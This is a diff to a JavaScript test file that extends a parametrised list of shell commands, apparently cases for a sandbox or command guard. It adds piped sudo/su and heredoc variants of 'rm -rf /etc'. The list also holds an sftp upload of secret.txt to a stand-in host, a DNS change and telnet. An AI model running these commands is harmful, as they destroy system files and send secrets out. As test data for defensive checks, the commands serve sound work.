@@ -22,6 +22,9 @@ describe('what the box stops, or what nobody runs, is no question [H1]', () => {
 
   it.each([
     'sudo -i rm -rf /etc',
+    'echo "rm -rf /etc" | sudo -i',
+    'echo "rm -rf /etc" | su',
+    'sudo -s <<E\nrm -rf /etc\nE',
     'resolvectl dns eth0 192.0.2.1',
     'echo "put secret.txt" | sftp ann@host.example',
     'telnet host.example 23',
